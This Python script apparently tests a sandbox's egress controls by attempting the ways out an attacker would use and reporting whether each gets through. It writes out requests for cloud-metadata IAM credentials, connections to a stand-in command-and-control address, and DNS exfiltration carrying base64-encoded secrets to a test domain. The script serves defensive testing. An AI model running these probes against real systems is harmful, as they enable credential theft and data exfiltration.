# Tries, from inside a sandbox, every way out an attacker would: cloud metadata over IPv4, IPv6
# and v4-mapped forms, the C2 over TCP and UDP, ICMP, raw and packet sockets, DNS exfiltration
# through the gate's resolver and straight to the authority, the gate's and the host's own
# addresses, the registry on a port the policy does not list. Prints one JSON line per attempt:
# {"what": ..., "ok": bool, "error": ...}. "ok" means the attempt got through.
# Usage: egress.py deny HOSTADDR GATEADDR | escaped HOSTADDR GATEADDR | allow
# "escaped" is the same run by a process that got out of the sandbox's cgroup and privileges
# (the test runs it as root in the sandbox's network namespace only): the sockets it may open are
# no longer the point, the gate is; it also sends an ICMP echo, which root can.
import json, socket, struct, sys

TIMEOUT = 1.5


def report(what, ok, error=None):
    print(json.dumps({"what": what, "ok": ok, "error": error}), flush=True)


def tcp(what, family, addr, port):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(TIMEOUT)
    try:
        s.connect((addr, port))
        s.sendall(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")
        data = s.recv(100)
        report(what, True, "answered %r" % data[:40])
    except OSError as e:
        report(what, False, type(e).__name__ + ": " + str(e))
    finally:
        s.close()


def udp(what, addr, port, payload):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(TIMEOUT)
    try:
        s.sendto(payload, (addr, port))
        data, _ = s.recvfrom(512)
        report(what, True, "answered %d bytes" % len(data))
    except OSError as e:
        report(what, False, type(e).__name__ + ": " + str(e))
    finally:
        s.close()


def dns_query(name, qtype=1):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)


def resolve(what, name, server):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(TIMEOUT)
    try:
        s.sendto(dns_query(name), (server, 53))
        data, _ = s.recvfrom(512)
        rcode = data[3] & 0xF
        answers = struct.unpack(">H", data[6:8])[0]
        report(what, rcode == 0 and answers > 0, "rcode %d, %d answers" % (rcode, answers))
    except OSError as e:
        report(what, False, type(e).__name__ + ": " + str(e))
    finally:
        s.close()


def opens(what, family, kind, proto=0):
    try:
        s = socket.socket(family, kind, proto)
        s.close()
        report(what, True, "socket opened")
    except OSError as e:
        report(what, False, type(e).__name__ + ": " + str(e))


def nameserver():
    for line in open("/etc/resolv.conf"):
        if line.startswith("nameserver"):
            return line.split()[1]
    return "127.0.0.53"


def deny(host_addr, gate_addr):
    tcp("metadata-v4", socket.AF_INET, "169.254.169.254", 80)
    tcp("metadata-v4-mapped", socket.AF_INET6, "::ffff:169.254.169.254", 80)
    tcp("metadata-v6", socket.AF_INET6, "fd00:ec2::254", 80)
    tcp("metadata-alibaba", socket.AF_INET, "100.100.100.200", 80)
    tcp("c2-tcp-443", socket.AF_INET, "203.0.113.66", 443)
    tcp("c2-tcp-4444", socket.AF_INET, "203.0.113.66", 4444)
    udp("c2-udp-53", "203.0.113.66", 53, dns_query("beacon.example"))
    tcp("registry-unlisted-port", socket.AF_INET, "198.51.100.7", 8080)
    tcp("gate-own-address", socket.AF_INET, gate_addr, 22)
    tcp("host-address", socket.AF_INET, host_addr, 22)
    udp("authority-direct", "198.51.100.53", 53, dns_query("exfil.test"))
    ns = nameserver()
    resolve("dns-exfil", "exfil.test", ns)
    resolve("dns-exfil-encoded", "bXkgc2VjcmV0IGtleSBpcyBodW50ZXIy.aGVsbG8.exfil.test", ns)
    resolve("dns-subdomain-of-allowed", "c2VjcmV0.registry.test", ns)
    resolve("dns-other", "example.com", ns)


def icmp_echo(what, addr):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        s.settimeout(TIMEOUT)
        body = struct.pack(">BBHHH", 8, 0, 0, 0x4242, 1) + b"firebreak!"  # even length
        csum = sum(struct.unpack(">%dH" % (len(body) // 2), body + b"\0" * (len(body) % 2)))
        csum = (csum >> 16) + (csum & 0xFFFF)
        csum = ~(csum + (csum >> 16)) & 0xFFFF
        s.sendto(body[:2] + struct.pack(">H", csum) + body[4:], (addr, 0))
        data, _ = s.recvfrom(512)
        report(what, True, "answered %d bytes" % len(data))
    except OSError as e:
        report(what, False, type(e).__name__ + ": " + str(e))


def allow():
    ns = nameserver()
    resolve("dns-registry", "registry.test", ns)
    try:
        addr = socket.getaddrinfo("registry.test", 80, socket.AF_INET)[0][4][0]
        s = socket.create_connection((addr, 80), timeout=5)
        s.sendall(b"GET /packages/demo-1.0.tar.gz HTTP/1.0\r\nHost: registry.test\r\n\r\n")
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        report("registry-by-name", data.startswith(b"HTTP/1.0 200") or data.startswith(b"HTTP/1.1 200"),
               "%s, %d bytes" % (addr, len(data)))
    except OSError as e:
        report("registry-by-name", False, type(e).__name__ + ": " + str(e))


if sys.argv[1] == "deny":
    deny(sys.argv[2], sys.argv[3])
    opens("icmp-datagram", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    opens("raw-socket", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    opens("packet-socket", 17, socket.SOCK_RAW, 0)
elif sys.argv[1] == "escaped":
    deny(sys.argv[2], sys.argv[3])
    icmp_echo("icmp-echo-c2", "203.0.113.66")
else:
    allow()
